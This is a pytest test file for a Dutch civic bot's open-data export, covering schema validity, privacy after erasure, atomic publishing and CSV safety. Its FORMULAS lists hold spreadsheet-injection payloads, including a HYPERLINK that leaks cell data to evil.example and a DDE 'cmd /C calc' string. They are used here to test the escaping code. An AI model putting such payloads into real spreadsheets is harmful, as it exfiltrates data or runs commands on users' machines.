"""Open data: a Frictionless Data Package that matches its own schema and holds no person."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import stat
import threading
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import feedparser
import pytest
from frictionless import validate

from bot.admin.cli import main
from bot.admin.open_data import (
    DATETIME,
    RESOURCES,
    OpenDataError,
    OpenDataReport,
    export_open_data,
    run_open_data_export,
    write_atomically,
)
from bot.admin.spreadsheet import safe_cell, safe_row
from bot.app import App
from bot.settings import Settings
from storage.clock import utcnow
from storage.ideas.ideas import IdeaStatus
from storage.news.broadcasts import Audience, AudienceKind
from storage.privacy.personal import Cause, ContentChoice
from tests.handlers.ideas.helpers import submit_idea
from tests.people import civil_servant, connector, subscribe
from tests.people import person as resident
from tests.privacy import Neighbours, seed_neighbours
from tests.support import Chat

REMOVED_TITLE = "Qzxverwijderd idee over niks"
SIGNER = "Carla Verbindt-Handtekening"
EXPERIMENT_ONLY = "Qzxalleen voor deelnemers"


async def seed_public_life(app: App) -> Neighbours:
    """Neighbours with ideas in several states, a removed idea, and published news."""
    seeded = await seed_neighbours(app)
    repos, now = app.repos, utcnow()
    carla = seeded.carla.user_id
    async with app.db.transaction():
        removed = await repos.ideas.create(
            category="wonen",
            title=REMOVED_TITLE,
            description="Dit idee is verwijderd door de moderatie.",
            neighbourhood="driehuis",
            photo_id=None,
            author_user_id=seeded.dirk.user_id,
            now=now,
        )
        await repos.ideas.remove(removed.id, now)
        await repos.ideas.set_status(
            seeded.bob.idea, IdeaStatus.ADOPTED, now=now, theme="klimaat", by_user_id=carla
        )
        await repos.staff.save(
            carla,
            name=SIGNER,
            department_id=None,
            department_text="Verbinding",
            work="Ik verbind.",
            photo_id=None,
            now=now,
        )
        for text, audience in (
            ("Wist je dat de markt op zaterdag is?", Audience(kind=AudienceKind.ALL)),
            (EXPERIMENT_ONLY, Audience(kind=AudienceKind.EXPERIMENT, value="1")),
        ):
            signed = [
                {
                    "key": "news.item",
                    "params": {"text": text},
                    "parts": [
                        {"key": "news.signed", "params": {"name": SIGNER, "department": "x"}}
                    ],
                }
            ]
            draft = await repos.broadcasts.save_draft(
                carla, text=text, photo_id=None, audience=audience, payload=signed, now=now
            )
            assert await repos.broadcasts.release(draft, now) is not None
    return seeded


def read_csv(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as fh:
        header, *rows = list(csv.reader(fh))
    return header, rows


def read_json(path: Path) -> list[dict[str, Any]]:
    """A JSON table (header row, then rows) as one dict per row."""
    header, *rows = json.loads(path.read_text(encoding="utf-8"))
    return [dict(zip(header, row, strict=True)) for row in rows]


def typed(value: str, type_: str) -> Any:
    """A CSV cell read as its declared Table Schema type (empty is missing)."""
    if value == "":
        return None
    if type_ == "integer":
        return int(value)
    if type_ == "datetime":
        datetime.strptime(value, DATETIME)
        return value
    assert type_ == "string", type_
    return value


async def test_the_package_matches_its_own_schema_and_validates(app: App, tmp_path: Path) -> None:
    await seed_public_life(app)
    out = tmp_path / "open-data"
    now = utcnow()
    report = await export_open_data(app, out, now)
    assert report.rows["ideas"] == 2

    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
    assert package["profile"] == "tabular-data-package"
    assert package["name"] == "samenspel-velsen" and package["title"]
    assert package["created"] == now.strftime(DATETIME)
    assert package["licenses"][0]["name"] == "CC0-1.0"
    described = {resource["path"] for resource in package["resources"]}
    data = {path.name for path in out.iterdir() if path.suffix in (".csv", ".json")}
    assert described == data - {"datapackage.json"}
    site = {path.name for path in out.iterdir()} - data
    assert site == {
        "index.html",
        "wist-je-dat.html",
        "style.css",
        "feed.xml",
        "idee-1.html",
        "idee-2.html",
    }
    tables: dict[str, dict[str, list[dict[str, Any]]]] = {}
    for resource in package["resources"]:
        assert resource["profile"] == "tabular-data-resource"
        assert {"name", "path", "format", "mediatype", "schema", "title"} <= resource.keys()
        schema = resource["schema"]
        fields = schema["fields"]
        assert all(f["name"] and f["type"] and f["description"] for f in fields)
        assert set(schema["primaryKey"]) <= {f["name"] for f in fields}
        names = [f["name"] for f in fields]
        path = out / resource["path"]
        if resource["format"] == "csv":
            assert resource["mediatype"] == "text/csv"
            header, cells = read_csv(path)
            assert header == names, "every column is declared and every field is there"
            rows = [
                {f["name"]: typed(cell, f["type"]) for f, cell in zip(fields, row, strict=True)}
                for row in cells
            ]
        else:
            assert resource["mediatype"] == "application/json"
            header, *values = json.loads(path.read_text(encoding="utf-8"))
            assert header == names
            rows = [dict(zip(names, row, strict=True)) for row in values]
        keys = [tuple(row[k] for k in schema["primaryKey"]) for row in rows]
        assert len(keys) == len(set(keys)), f"{resource['name']}: primary key not unique"
        tables.setdefault(path.stem, {})[resource["format"]] = rows
    assert {name: pair["csv"] == pair["json"] for name, pair in tables.items()} == {
        r.name: True for r in RESOURCES
    }, "the JSON holds what the CSV holds"

    result = validate(str(out / "datapackage.json"))
    errors = [(t.name, e.message) for t in result.tasks for e in t.errors]
    assert result.valid, errors or [e.message for e in result.errors]


async def test_an_idea_sent_in_while_the_export_reads_leaves_the_package_valid(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    await seed_public_life(app)
    data = app.repos.open_data
    read_ideas = data.ideas
    emma = await resident(app, "emma")

    async def ideas_then_a_new_one() -> list[dict[str, Any]]:
        # The export has read the ideas; Emma sends hers in before it reads their history.
        rows = await read_ideas()
        await submit_idea(emma, "Een bankje bij de bushalte", "Wachten is zwaar voor ouderen.")
        assert emma.keys[-1] == "ideas.submitted"
        return rows

    monkeypatch.setattr(data, "ideas", ideas_then_a_new_one)
    out = tmp_path / "open-data"
    await export_open_data(app, out, utcnow())

    result = validate(str(out / "datapackage.json"))
    errors = [(t.name, e.message) for t in result.tasks for e in t.errors]
    assert result.valid, errors or [e.message for e in result.errors]
    numbers = {row["number"] for row in read_json(out / "ideas.json")}
    assert {row["idea"] for row in read_json(out / "idea_status_history.json")} <= numbers


async def test_the_package_of_a_new_database_validates_too(app: App, tmp_path: Path) -> None:
    await export_open_data(app, tmp_path / "empty", utcnow())
    assert read_json(tmp_path / "empty" / "ideas.json") == []
    result = validate(str(tmp_path / "empty" / "datapackage.json"))
    assert result.valid, [(t.name, e.message) for t in result.tasks for e in t.errors]


async def test_the_export_holds_public_content_and_counts_but_nobody(
    app: App, tmp_path: Path
) -> None:
    seeded = await seed_public_life(app)
    anna, bob = seeded.anna, seeded.bob
    # Anna asked to be forgotten with everything she wrote.
    await app.repos.personal.erase(
        anna.user_id, content=ContentChoice.DELETE, cause=Cause.REQUEST, now=utcnow()
    )
    out = tmp_path / "od"
    await export_open_data(app, out, utcnow())
    everything = "\n".join(path.read_text(encoding="utf-8") for path in out.iterdir())

    for person in (anna, bob, seeded.carla, seeded.dirk):
        for value in person.identity:
            assert value not in everything, value
    for value in (*anna.texts, "Xjqwplein", bob.texts[2], bob.texts[3], REMOVED_TITLE):
        assert value not in everything, value
    assert SIGNER not in everything and EXPERIMENT_ONLY not in everything
    assert "user" not in "".join(f.name for r in RESOURCES for f in r.fields)

    ideas = read_json(out / "ideas.json")
    assert [(i["title"], i["theme"], i["comments"]) for i in ideas] == [
        (bob.texts[0], "klimaat", 1)
    ]
    news = read_json(out / "wist_je_dat.json")
    assert [n["text"] for n in news] == ["Wist je dat de markt op zaterdag is?"]
    experiments = read_json(out / "experiments.json")
    assert experiments[0]["participants"] == 1  # Bob; Anna's participation went with her
    statistics = read_json(out / "idea_statistics.json")
    for dimension in ("category", "status", "neighbourhood"):
        rows = [s for s in statistics if s["dimension"] == dimension]
        assert sum(s["ideas"] for s in rows) == len(ideas), dimension
    assert {"dimension": "neighbourhood", "code": "geen", "ideas": 1, "supporters": 0} in (
        statistics
    )


async def test_an_export_replaces_the_last_one_at_once_and_never_a_foreign_folder(
    tmp_path: Path,
) -> None:
    out = tmp_path / "public" / "open-data"
    write_atomically(out, {"datapackage.json": b"{}", "old.csv": b"a\n"})
    write_atomically(out, {"datapackage.json": b"{}", "new.csv": b"b\n"})
    assert sorted(p.name for p in out.iterdir()) == ["datapackage.json", "new.csv"]
    assert [p.name for p in out.parent.iterdir()] == ["open-data"], "nothing left behind"
    assert out.stat().st_mode & 0o755 == 0o755

    mine = tmp_path / "my-documents"
    mine.mkdir()
    (mine / "letter.txt").write_text("keep me")
    with pytest.raises(OpenDataError, match="not an earlier export"):
        write_atomically(mine, {"datapackage.json": b"{}"})
    assert (mine / "letter.txt").read_text() == "keep me"


def test_an_export_is_on_the_disk_before_it_is_swapped_in_and_the_swap_after(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The served folder is reached by a link, and an export killed halfway left a folder.
    served = tmp_path / "www" / "od"
    write_atomically(served, {"datapackage.json": b"{}", "old.csv": b"a\n"})
    link = tmp_path / "od-link"
    link.symlink_to(served)
    (served.parent / ".od.new-abcd1234").mkdir()
    events: list[tuple[str, str]] = []
    real_fsync, real_rename = os.fsync, os.rename

    def fsync(fd: int) -> None:
        events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}")))
        real_fsync(fd)

    def rename(src: Any, dst: Any) -> None:
        events.append(("rename", str(dst)))
        real_rename(src, dst)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "rename", rename)
    write_atomically(link, {"datapackage.json": b"{}", "new.csv": b"b\n"})

    swap = events.index(("rename", str(served)))
    synced_before = {Path(path).name for kind, path in events[:swap] if kind == "fsync"}
    assert {"datapackage.json", "new.csv"} <= synced_before, events
    assert any(Path(p).name.startswith(".od.new-") for p in synced_before), "its file list too"
    assert ("fsync", str(served.parent)) in events[swap + 1 :], "the rename itself"
    assert link.is_symlink() and link.resolve() == served
    assert sorted(p.name for p in served.iterdir()) == ["datapackage.json", "new.csv"]
    assert [p.name for p in served.parent.iterdir()] == ["od"], "nothing left behind"


async def test_an_export_into_a_folder_reached_by_a_link_updates_the_folder_it_points_to(
    tmp_path: Path,
) -> None:
    # The web server publishes /var/www/od; the bot's settings name a link to it.
    served = tmp_path / "www" / "od"
    served.mkdir(parents=True)
    link = tmp_path / "conf" / "od"
    link.parent.mkdir()
    link.symlink_to(served)
    settings = Settings(_env_file=None, db=tmp_path / "w.db", open_data_dir=link)  # type: ignore[call-arg]
    app = await App.open(settings)
    try:
        seeded = await seed_public_life(app)
        now = utcnow()
        assert await run_open_data_export(app, now) is not None
        assert (served / "index.html").is_file(), "the web server's folder got the export"
        async with app.db.transaction():
            await app.repos.ideas.remove(seeded.bob.idea, now)
        assert await run_open_data_export(app, now + timedelta(minutes=5)) is not None
        assert not (served / f"idee-{seeded.bob.idea}.html").exists()
        assert not await app.repos.open_data.stale()
    finally:
        await app.close()
    assert link.is_symlink() and link.resolve() == served
    assert sorted(p.name for p in served.parent.iterdir()) == ["od"], "nothing left behind"


async def test_the_weekly_export_runs_only_when_a_week_has_passed(tmp_path: Path) -> None:
    out = tmp_path / "published"
    settings = Settings(_env_file=None, db=tmp_path / "w.db", open_data_dir=out)  # type: ignore[call-arg]
    app = await App.open(settings)
    try:
        now = utcnow()
        first = await run_open_data_export(app, now)
        assert first is not None and (out / "ideas.csv").is_file()
        assert await run_open_data_export(app, now + timedelta(days=1)) is None
        assert await run_open_data_export(app, now + timedelta(days=6, hours=23)) is not None
    finally:
        await app.close()
    unset = await App.open(Settings(_env_file=None, db=tmp_path / "w.db"))  # type: ignore[call-arg]
    try:
        assert await run_open_data_export(unset, utcnow()) is None
    finally:
        await unset.close()


def test_the_command_writes_the_export(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("SAMENSPEL_DB", str(app.settings.db))
    out = tmp_path / "cli-export"
    assert main(["export-open-data", "--out", str(out)]) == 0
    assert "open data written to" in capsys.readouterr().out
    assert (out / "datapackage.json").is_file()
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "x.txt").write_text("x")
    assert main(["export-open-data", "--out", str(tmp_path / "other")]) == 2
    assert "not an earlier export" in capsys.readouterr().err


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Klik hier voor de uitslag")',
    "+31 6 12345678 bellen",
    "-2+3 bankjes erbij",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 verstopt achter een tab",
    "\r=1+1 verstopt achter een regelterugloop",
    '\uff1dHYPERLINK("https://evil.example", "met een breed isgelijkteken")',
]


@pytest.mark.parametrize("title", FORMULAS, ids=["=", "+", "-", "@", "tab", "cr", "full-width ="])
async def test_a_title_that_looks_like_a_formula_is_text_in_the_csv_and_verbatim_in_json(
    app: App, chat: Callable[..., Chat], tmp_path: Path, title: str
) -> None:
    anna = chat("anna")
    await anna.onboard()
    await submit_idea(anna, title, "=1+1 en de rest van de beschrijving van het idee")
    out = tmp_path / "od"
    await export_open_data(app, out, utcnow())

    stored = title.strip()  # the chat trims what people type; the formula stays
    header, rows = read_csv(out / "ideas.csv")
    idea = dict(zip(header, rows[0], strict=True))
    assert idea["title"] == f"'{stored}"
    assert idea["text"].startswith("'=1+1 en de rest")
    assert int(idea["number"]) >= 1 and idea["submitted_at"][0].isdigit(), "numbers as they are"
    (json_idea,) = read_json(out / "ideas.json")
    assert json_idea["title"] == stored and json_idea["text"].startswith("=1+1")
    for path in out.glob("*.csv"):
        for row in read_csv(path)[1]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\uff1d")), (
                    path.name,
                    cell,
                )


def test_every_formula_start_is_guarded_in_a_cell_and_numbers_stay_numbers() -> None:
    for text in FORMULAS:
        assert safe_cell(text) == f"'{text}"
    assert safe_cell("Meer bankjes = meer rust") == "Meer bankjes = meer rust"
    assert safe_cell("'al tekst") == "'al tekst"
    assert safe_cell(-3) == -3 and safe_cell("") == "" and safe_cell(None) is None


#: Formula starts that slip past a check of the first character against ``= + - @``.
HIDDEN_FORMULAS = [
    '\n=HYPERLINK("https://evil.example") op een nieuwe regel',
    "\r\n+1+1 na een regeleinde",
    "\x00=1+1 achter een nulteken",
    "  =1+1 achter spaties",
    "\u3000=1+1 achter een ideografische spatie",
    '\uff1dHYPERLINK("https://evil.example") met een breed isgelijkteken',
    "\uff0b31 6 12345678 met een breed plusteken",
    "\uff0d2+3 met een breed minteken",
    "\uff20SUM(1+1) met een breed apenstaartje",
]


@pytest.mark.parametrize("text", HIDDEN_FORMULAS)
def test_a_formula_behind_a_line_break_spaces_or_in_full_width_signs_is_guarded_too(
    text: str,
) -> None:
    assert safe_cell(text) == f"'{text}"
    written = io.StringIO()
    csv.writer(written).writerow(safe_row([text, 3]))
    [[cell, number]] = list(csv.reader(io.StringIO(written.getvalue())))
    assert cell == f"'{text}" and number == "3"


def test_text_with_a_sign_or_spaces_further_on_stays_as_it_is() -> None:
    for text in ("Meer bankjes = meer rust", "  Speeltuin", "Bel 06-12345678", "A\uff1dB"):
        assert safe_cell(text) == text
    assert safe_cell("   ") == "   "


def test_the_published_files_are_readable_by_a_web_server_under_a_strict_umask(
    app: App, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SAMENSPEL_DB", str(app.settings.db))
    out = tmp_path / "od"
    strict = os.umask(0o077)
    try:
        assert main(["export-open-data", "--out", str(out)]) == 0
        assert main(["export-open-data", "--out", str(out)]) == 0  # replacing one too
    finally:
        os.umask(strict)
    assert stat.S_IMODE(out.stat().st_mode) == 0o755
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()}
    assert "feed.xml" in modes and set(modes.values()) == {0o644}, modes


# What staff type, with what a terminal, a bridge or a copied text may slip in.
STAFF_REASON = "Kijk\x1b[31m hier\x00 naar, met\x07 de\x7f buurt.\x9b Groet"
STAFF_NEWS = "Wist je dat\x1b[2J de markt\x00 weer open is\ufdd0?"
#: A resident's title: the chat takes out C0 controls but not these.
RESIDENT_TITLE = "Speeltuin \u202enaar links\u202c klaar\x85\ufdd0\U0001fffe\u2067 erbij"
UNPUBLISHABLE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff\U0001fffe\u202a-\u202e"
    "\u2066-\u2069]"
)


async def test_control_characters_staff_or_residents_typed_are_in_no_published_file(
    app: App, tmp_path: Path
) -> None:
    anna = await resident(app, "anna")
    await submit_idea(anna, RESIDENT_TITLE, "Een speeltuin waar kinderen veilig kunnen spelen.")
    await subscribe(anna)
    ria = await connector(app)
    await ria.send("/wachtrij 1")
    await ria.press("In behandeling")
    await ria.send(STAFF_REASON)
    assert ria.keys[0] == "triage.done"
    cas = await civil_servant(app, "cas")
    await cas.send("/nieuwbericht")
    await cas.send(STAFF_NEWS)
    await cas.press("Zonder foto")
    await cas.press("Alle abonnees")
    await cas.press("Nu versturen")
    assert cas.keys == ["composer.sent"]
    # What staff typed is stored without the controls of C0 (the chat cleans what it reads).
    [_, change] = await app.repos.ideas.history(1)
    assert change.reason == "Kijk [31m hier  naar, met  de  buurt.\x9b Groet"

    out = tmp_path / "od"
    await export_open_data(app, out, utcnow())
    for path in out.iterdir():
        text = path.read_text(encoding="utf-8")
        assert not UNPUBLISHABLE.search(text), (path.name, UNPUBLISHABLE.findall(text))
    [news] = read_json(out / "wist_je_dat.json")
    assert news["text"] == "Wist je dat [2J de markt  weer open is?"
    history = read_json(out / "idea_status_history.json")
    assert history[-1]["reason"] == "Kijk [31m hier  naar, met  de  buurt. Groet"
    [idea] = read_json(out / "ideas.json")
    assert idea["title"] == "Speeltuin naar links klaar  erbij"
    # In the feed, the title reads left to right as typed, and the status after it too.
    feed = feedparser.parse((out / "feed.xml").read_bytes())
    titles = [entry.title for entry in feed.entries if entry.title.startswith("Idee")]
    typed = "Idee #1 Speeltuin naar links klaar  erbij: "
    assert titles and all(title.startswith(typed) for title in titles)


def test_two_exports_at_the_same_moment_both_finish_and_leave_nothing_behind(
    tmp_path: Path,
) -> None:
    out = tmp_path / "public" / "od"
    pages = {f"idee-{n}.html": b"<p>idee</p>" * 100 for n in range(1, 200)}
    failed: list[str] = []
    for attempt in range(30):
        # The weekly export and an operator's command (and two more), released at once.
        start = threading.Barrier(4)

        def export(n: int, start: threading.Barrier = start) -> None:
            start.wait()
            try:
                write_atomically(out, {"datapackage.json": f"{n}".encode(), **pages})
            except OpenDataError as exc:
                failed.append(str(exc))

        runs = [threading.Thread(target=export, args=(attempt * 4 + i,)) for i in range(4)]
        for run in runs:
            run.start()
        for run in runs:
            run.join()
    assert failed == []
    assert [p.name for p in out.parent.iterdir()] == ["od"], "no folder left behind"
    assert len(list(out.iterdir())) == len(pages) + 1


async def test_the_command_and_the_weekly_export_at_once_both_publish(tmp_path: Path) -> None:
    out = tmp_path / "published"
    settings = Settings(_env_file=None, db=tmp_path / "w.db", open_data_dir=out)  # type: ignore[call-arg]
    app = await App.open(settings)
    try:
        await seed_public_life(app)
        now = utcnow()
        reports = await asyncio.gather(
            run_open_data_export(app, now), export_open_data(app, out, now), return_exceptions=True
        )
    finally:
        await app.close()
    assert all(isinstance(report, OpenDataReport) for report in reports), reports
    assert folders(tmp_path) == ["published"]


def folders(path: Path) -> list[str]:
    return sorted(p.name for p in path.iterdir() if p.is_dir())
